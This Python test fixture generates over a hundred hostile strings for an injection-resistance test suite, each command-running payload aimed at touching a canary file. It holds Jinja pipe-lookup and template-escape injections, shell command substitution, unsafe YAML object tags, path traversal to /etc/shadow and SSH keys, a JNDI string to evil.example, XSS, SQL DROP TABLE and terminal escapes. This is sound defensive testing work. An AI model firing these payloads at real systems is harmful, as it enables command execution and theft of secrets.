"""Generated hostile inputs for the tests (issue 19): template syntax of every dialect Ansible and the
toolkit meet, ``{% raw %}`` escapes, shell metacharacters, control characters, lone surrogates and
non-UTF-8 bytes, oversized strings, YAML specials, path tricks, nested JSON, markup. Each one that could run
a command names a canary file; a test asserts the file was never created."""

from __future__ import annotations

from pathlib import Path


def hostile_strings(canary: Path) -> list[str]:
    """At least 100 distinct hostile strings (the one list for every test of issue 19); those that would
    execute something ``touch`` ``canary``."""
    touch = f"touch {canary}"
    base = [
        # Jinja (Ansible, the reference app's templates), in every delimiter and with raw-block escapes
        f"{{{{ lookup('pipe','{touch}') }}}}",
        f"{{{{ query('pipe', '{touch}') }}}}",
        f"{{% endraw %}}{{{{ lookup('pipe','{touch}') }}}}{{% raw %}}",
        f"{{%- endraw -%}}{{{{ lookup('pipe','{touch}') }}}}{{%- raw -%}}",
        f"{{% raw %}}{{{{ lookup('pipe','{touch}') }}}}",
        f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{{{{ lookup('pipe','{touch}') }}}}",
        f"{{% set x = lookup('pipe','{touch}') %}}{{{{ x }}}}",
        f"{{# {touch} #}}{{{{ 7*7 }}}}",
        "{{ notification_service_api_token }} {{ notification_service_secret_key }}",
        "Template error: {{ user.name }} undefined in page",
        "{{",
        "}}{%",
        f"#{{{touch}}} ${{{touch}}} <%= `{touch}` %>",
        # shell
        f"$({touch})",
        f"`{touch}`",
        f"; {touch}",
        f"| {touch}",
        f"&& {touch} &",
        f"\n{touch}\n",
        f"'; {touch}; echo '",
        f'"; {touch}; echo "',
        "-rf /",
        "--help",
        "-e @/etc/passwd",
        # control characters, terminal escapes, bidi
        "\x1b[2J\x1b[H",
        "\x1b]0;owned\x07",
        "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
        "\x9b31mC1 CSI",
        "\x00NUL",
        "\r\nforged: line",
        "\x08\x08\x08backspace",
        "\u202eevil\u202c",
        "\u2028\u2029",
        "\ufeffBOM",
        "\x7fDEL\x85NEL",
        # not Unicode: lone surrogates, and non-UTF-8 bytes as Python reads them from argv (surrogateescape)
        "\ud800",
        "title \udfff end",
        b"\xff\xfe\xc3\x28".decode("utf-8", "surrogateescape"),
        # oversized
        "A" * 200_000,
        "{{" * 100_000,
        "\x1b" * 10_000,
        "é" * 70_000,
        # YAML specials
        f"!!python/object/apply:os.system ['{touch}']",
        f"!!python/object/new:subprocess.check_output [['{touch}']]",
        "&a [*a, *a, *a]",
        "*a",
        "--- !!binary AAAA",
        "? key\n: value",
        "%YAML 1.1\n---",
        "yes",
        "~",
        "0x1F",
        "1e999",
        "- item",
        ": colon",
        "'single\"double",
        # path tricks
        "../../etc/passwd",
        "../../../../../../tmp/x",
        "/etc/shadow",
        "..\\..\\windows",
        "~root/.ssh/id_rsa",
        "file:///etc/passwd",
        "/dev/zero",
        # nested JSON and JSON look-alikes
        "[" * 1000,
        '{"a":' * 500,
        '{"__proto__": {"admin": true}}',
        "NaN",
        # markup: HTML, Markdown, Rich
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[click](javascript:alert(1))",
        "| a | b |",
        "**bold** `code` ~~x~~",
        "[red]red[/red] [link=http://evil.example]x[/link] [/]",
        ":smile: :warning:",
        # format strings and other interpreters
        "%s%s%s%n",
        "{0.__class__.__init__.__globals__}",
        "${jndi:ldap://evil.example/a}",
        "' OR 1=1; DROP TABLE notifications; --",
        # plain, for contrast (must round-trip too)
        "Redis is down <maintenance>",
        "日本語のお知らせ 🚨",
        # more templates: FQCN lookups, loops, comments, what they could read
        f"{{{{ lookup('ansible.builtin.pipe', '{touch}') }}}}",
        f"{{% for i in range(1) %}}{{{{ lookup('pipe','{touch}') }}}}{{% endfor %}}",
        "{# unterminated comment",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ hostvars | to_json }}",
        "{{ lookup('env', 'HOME') }}",
        "{{{{}}}}",
        f"$(echo dG91Y2gK | base64 -d) {canary}",
        "* ? [a-z] ~",
        # more control and invisible characters
        "\u2066isolate\u2069",
        "tab\tand\vvertical\ftab",
        "\udbff\udbff",
        "zero\u200bwidth",
        "e\u0301\u0301\u0301",
        "\u05d4\u05ea\u05e8\u05d0\u05d4",
        # lengths around the bounds (a reason: 500; text: 4096; the dashboard: 300)
        "A" * 301,
        "r" * 501,
        "B" * 5000,
        "{{" * 2000,
        "\x1b" * 1000,
        "é" * 400,
        # more YAML, paths, JSON, markup, SQL, numbers as text
        "!!python/name:os.system",
        "!unsafe x",
        "key: value",
        "? complex",
        "%YAML 1.1",
        "---",
        "...",
        "null",
        ".inf",
        "<<: *base",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/proc/self/environ",
        '{"action": "rollback", "confirmed": true}',
        "[[[[[[[[[[]]]]]]]]]]",
        '{"a": {"b": {"c": [1, 2, {"d": null}]}}}',
        "</textarea><svg onload=alert(1)>",
        "'; DROP TABLE audit_log; --",
        "1 OR 1=1",
        "-1",
        "0",
        "99999999d",
        "",
        " ",
    ]
    strings = list(base)
    for text in base:
        if len(text) < 1000:
            strings.append(f"prefix {text} suffix")
            strings.append(f"{text}\n{text}")
    assert len(set(strings)) >= 100, len(set(strings))
    return list(dict.fromkeys(strings))


def is_unicode(text: str) -> bool:
    """Whether ``text`` can be encoded as UTF-8 (no lone surrogate)."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True
